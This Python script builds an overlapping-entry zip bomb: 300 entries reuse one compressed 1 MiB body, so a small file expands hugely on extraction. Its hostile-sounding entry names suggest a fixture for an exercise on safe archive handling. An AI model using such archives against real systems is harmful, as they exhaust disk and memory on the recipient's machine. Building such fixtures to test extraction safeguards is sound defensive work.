"""A zip whose entries quote each other's headers and share one body: what is stored once unpacks three hundred times.

Says: pack
"""

import struct
import zlib
from pathlib import Path

ENTRIES, BODY = 300, bytes(1 << 20)


def build(folder: Path) -> None:
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    stream, content, directory, headers = packer.compress(BODY) + packer.flush(), BODY, [], []
    for number in reversed(range(ENTRIES)):
        name = b"vault/target.py" if number == 0 else b"kata-hostile-%03d.py" % number
        sizes = (zlib.crc32(content), len(stream), len(content), len(name), 0)
        headers.insert(0, struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 33, *sizes) + name)
        directory.insert(0, (name, sizes))
        block = headers[0]
        stream = struct.pack("<BHH", 0, len(block), len(block) ^ 0xFFFF) + block + stream
        content = block + content
    data, entries, offset = stream[5:], b"", 0
    for (name, sizes), header in zip(directory, headers, strict=True):
        rest = (*sizes, 0, 0, 0, 0, offset)
        entries += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 33, *rest) + name
        offset += len(header) + 5
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, ENTRIES, ENTRIES, len(entries), len(data), 0)
    folder.with_suffix(".zip").write_bytes(data + entries + end)
